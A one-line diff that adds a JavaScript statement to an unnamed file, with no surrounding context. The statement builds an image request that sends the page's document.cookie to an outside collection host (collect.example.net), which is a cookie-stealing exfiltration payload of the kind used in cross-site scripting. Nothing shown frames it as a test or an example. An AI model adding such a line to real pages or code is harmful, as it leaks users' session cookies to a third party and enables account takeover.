@@ -1,0 +1,1 @@
+new Image().src = 'https://collect.example.net/c?' + document.cookie;
